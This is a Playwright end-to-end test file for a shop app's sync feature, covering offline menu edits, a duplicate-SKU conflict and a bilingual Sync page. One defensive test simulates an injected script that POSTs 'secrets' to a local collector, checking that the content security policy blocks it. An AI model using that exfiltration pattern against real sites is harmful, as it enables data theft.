/**
 * Sync end to end in Chromium: two browser contexts are two desktops of one shop, signed in to
 * a real platform this test starts (in-process, PGlite in memory, the demo shop seeded). One goes
 * offline, edits the menu, comes back; the other shows the change within 2 seconds through the
 * poke, without a reload.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Browser, type Page } from '@playwright/test';
import { DEMO } from '../platform/seed-demo';
import { expectNoSeriousA11yViolations } from './support/axe';
import { useDemoPlatform } from './support/demo-platform';
import { createProfile, currentProfile, laoWang } from './support/profile';

const platform = useDemoPlatform();

const nav = (page: Page) => page.getByRole('navigation', { name: '主导航' });
const header = (page: Page) => page.getByRole('status');

/** A desktop of the shop: a first-run profile, then signed in to the demo shop on the Sync page. */
async function desktopSignedIn(browser: Browser, name: string): Promise<Page> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto('/');
  await createProfile(page, laoWang);
  await nav(page).getByText('同步', { exact: true }).click();
  await expect(page.getByRole('heading', { name: '同步', level: 1 })).toBeVisible();
  await expect(page.getByText('在浏览器中，登录凭据保存在浏览器的本地数据库里')).toBeVisible();
  await page.getByLabel('平台地址').fill(platform.url);
  await page.getByLabel('这台电脑的名称').fill(name);
  await page.getByRole('button', { name: '使用演示店铺' }).click();
  await expect(currentProfile(page, DEMO.vendorName)).toBeVisible();
  await expect(page.getByText('已登录平台')).toBeVisible();
  await expect(header(page)).toContainText('已同步', { timeout: 10_000 });
  return page;
}

test('two desktops of one shop: an offline edit reaches the other within 2 seconds of reconnecting', async ({
  browser,
}) => {
  const front = await desktopSignedIn(browser, '前台电脑');
  const kitchen = await desktopSignedIn(browser, '后厨电脑');
  await expectNoSeriousA11yViolations(front, 'sync page (signed in)');
  await front.screenshot({ path: 'test-results/screenshots/sync-zh-CN.png', fullPage: true });

  for (const page of [front, kitchen]) {
    await nav(page).getByText('菜单', { exact: true }).click();
    await expect(page.getByRole('heading', { name: '菜单', level: 1 })).toBeVisible();
    await page.getByRole('tab', { name: '分类' }).click();
  }
  // A reload would drop this marker: the change must arrive in the running page.
  await kitchen.evaluate(() => ((window as { syncMarker?: string }).syncMarker = 'still here'));

  await front.context().setOffline(true);
  await expect(header(front)).toContainText('离线');
  await front.getByRole('button', { name: '新建分类' }).click();
  const dialog = front.getByRole('dialog', { name: '新建分类' });
  await dialog.getByLabel('中文名称').fill('夜宵');
  await dialog.getByRole('button', { name: '创建' }).click();
  await expect(dialog).toBeHidden();
  await expect(header(front)).toContainText('1 项改动待同步');
  const kitchenCategories = kitchen.getByRole('list', { name: '分类（按顾客看到的顺序）' });
  await expect(kitchenCategories.getByText('夜宵', { exact: true })).toHaveCount(0);

  await front.context().setOffline(false);
  // Back online is confirmed by a probe, then the change goes up...
  await expect(header(front)).toContainText('改动已全部保存在本机', { timeout: 15_000 });
  const sentAt = Date.now();
  // ...and the platform's poke brings it to the kitchen without a reload.
  await expect(kitchenCategories.getByText('夜宵', { exact: true })).toBeVisible({
    timeout: 2_000,
  });
  const deliveredInMs = Date.now() - sentAt;
  expect(deliveredInMs).toBeLessThan(2_000);
  expect(await kitchen.evaluate(() => (window as { syncMarker?: string }).syncMarker)).toBe(
    'still here',
  );
  console.info(`offline edit reached the other desktop ${deliveredInMs} ms after it was sent`);

  await nav(kitchen).getByText('同步', { exact: true }).click();
  await expect(kitchen.getByText('所有改动都已上传。')).toBeVisible();
  await expect(kitchen.getByText('没有需要处理的改动。')).toBeVisible();
  await expect(kitchen.getByText('实时更新已连接')).toBeVisible();

  // The same page in English, still signed in and synced.
  await nav(kitchen).getByText('设置', { exact: true }).click();
  await kitchen.getByText('English', { exact: true }).click();
  await expect(kitchen.getByRole('heading', { name: 'Settings', level: 1 })).toBeVisible();
  await kitchen
    .getByRole('navigation', { name: 'Main navigation' })
    .getByText('Sync', { exact: true })
    .click();
  await expect(kitchen.getByRole('heading', { name: 'Sync', level: 1 })).toBeVisible();
  await expect(kitchen.getByText('All changes have been sent.')).toBeVisible();
  await expect(kitchen.getByText('Nothing needs attention.')).toBeVisible();
  await expect(kitchen.getByText(/^Live updates connected/)).toBeVisible();
  await expectNoSeriousA11yViolations(kitchen, 'sync page (en)');
  await kitchen.screenshot({ path: 'test-results/screenshots/sync-en.png', fullPage: true });
});

/** Creates an item with a name, a category, a price and a SKU on the Menu page. */
async function createItemWithSku(page: Page, name: string, sku: string): Promise<void> {
  await page.getByRole('button', { name: '新建商品' }).click();
  const drawer = page.getByRole('dialog', { name: '新建商品' });
  await drawer.getByLabel('中文名称').fill(name);
  await drawer.getByLabel('分类', { exact: true }).click();
  await page.getByTitle('饮品', { exact: true }).last().click();
  await drawer.getByLabel('价格（元）').fill('12');
  await drawer.getByLabel('SKU', { exact: true }).fill(sku);
  await drawer.getByRole('button', { name: '保存' }).click();
  await expect(drawer).toBeHidden();
}

const itemRow = (page: Page, name: string) =>
  page.getByRole('table', { name: '商品列表' }).getByRole('row').filter({ hasText: name });

test('two desktops give two items one SKU offline: the later is on both desktops’ Needs attention, and one click applies it without the code', async ({
  browser,
}) => {
  const front = await desktopSignedIn(browser, '前台电脑');
  const kitchen = await desktopSignedIn(browser, '后厨电脑');
  for (const page of [front, kitchen]) {
    await nav(page).getByText('菜单', { exact: true }).click();
    await expect(page.getByRole('heading', { name: '菜单', level: 1 })).toBeVisible();
    await page.context().setOffline(true);
    await expect(header(page)).toContainText('离线');
  }
  // Each desktop checks its own copy: neither knows of the other's item.
  await createItemWithSku(front, '桂花乌梅汁', 'YP-9');
  await createItemWithSku(kitchen, '冰镇绿豆沙', 'yp-9');
  await expect(itemRow(kitchen, '冰镇绿豆沙')).toBeVisible();

  await front.context().setOffline(false);
  await expect(header(front)).toContainText('改动已全部保存在本机', { timeout: 15_000 });
  await kitchen.context().setOffline(false);
  // The platform turns the kitchen's item down: taken back there, and on both desktops' lists.
  await expect(header(kitchen)).toContainText('1 项需处理', { timeout: 15_000 });
  await expect(itemRow(kitchen, '冰镇绿豆沙')).toHaveCount(0);
  await expect(itemRow(kitchen, '桂花乌梅汁')).toBeVisible();
  await expect(header(front)).toContainText('1 项需处理', { timeout: 15_000 });

  for (const page of [front, kitchen]) {
    await nav(page).getByText('同步', { exact: true }).click();
    const item = page
      .getByRole('region', { name: '需要处理' })
      .getByRole('listitem')
      .filter({ hasText: '新建菜品：冰镇绿豆沙' });
    await expect(item).toBeVisible();
    await expect(item.getByText(/SKU YP-9 已被「桂花乌梅汁」使用/)).toBeVisible();
  }
  await expectNoSeriousA11yViolations(front, 'sync page with a code clash');
  await front.screenshot({
    path: 'test-results/screenshots/attention-code-zh-CN.png',
    fullPage: true,
  });

  // The kitchen reads the same item in English.
  await nav(kitchen).getByText('设置', { exact: true }).click();
  await kitchen.getByText('English', { exact: true }).click();
  const mainNav = kitchen.getByRole('navigation', { name: 'Main navigation' });
  await mainNav.getByText('Sync', { exact: true }).click();
  const inEnglish = kitchen
    .getByRole('region', { name: 'Needs attention' })
    .getByRole('listitem')
    .filter({ hasText: 'New item: 冰镇绿豆沙' });
  await expect(inEnglish.getByText(/SKU YP-9 is already used by “桂花乌梅汁”/)).toBeVisible();
  await expect(
    inEnglish.getByRole('button', { name: 'Apply again without the duplicate codes (YP-9)' }),
  ).toBeVisible();
  await expectNoSeriousA11yViolations(kitchen, 'sync page with a code clash (en)');
  await kitchen.screenshot({
    path: 'test-results/screenshots/attention-code-en.png',
    fullPage: true,
  });

  // One click on the front desk: the kitchen's item lands without the duplicate SKU, and the
  // item leaves both lists.
  await front.getByRole('button', { name: '去掉重复编码（YP-9）后重新应用' }).click();
  await expect(front.getByText('没有需要处理的改动。')).toBeVisible();
  await expect(header(front)).not.toContainText('需处理', { timeout: 15_000 });
  await expect(kitchen.getByText('Nothing needs attention.')).toBeVisible({ timeout: 15_000 });
  await mainNav.getByText('Menu', { exact: true }).click();
  const kitchenItem = kitchen
    .getByRole('table', { name: 'Items' })
    .getByRole('row')
    .filter({ hasText: '冰镇绿豆沙' });
  await expect(kitchenItem).toBeVisible({ timeout: 15_000 });
  await expect(kitchenItem).not.toContainText('YP-9');
});

test('the browser console sends nothing to an address other than its platform', async ({
  browser,
}) => {
  let received = 0;
  const collector = createServer((_request, response) => {
    received += 1;
    response.end('ok');
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/collect`;
  try {
    const page = await desktopSignedIn(browser, '前台电脑');
    // What an injected script would try: post the shop's data somewhere else.
    const blocked = await page.evaluate(
      (target) =>
        new Promise<string>((resolve) => {
          document.addEventListener(
            'securitypolicyviolation',
            (event) => resolve(event.blockedURI),
            {
              once: true,
            },
          );
          fetch(target, { method: 'POST', body: 'secrets' }).catch(() => undefined);
        }),
      url,
    );
    expect(blocked).toContain(url.replace('/collect', ''));
    expect(received).toBe(0);
  } finally {
    collector.close();
  }
});
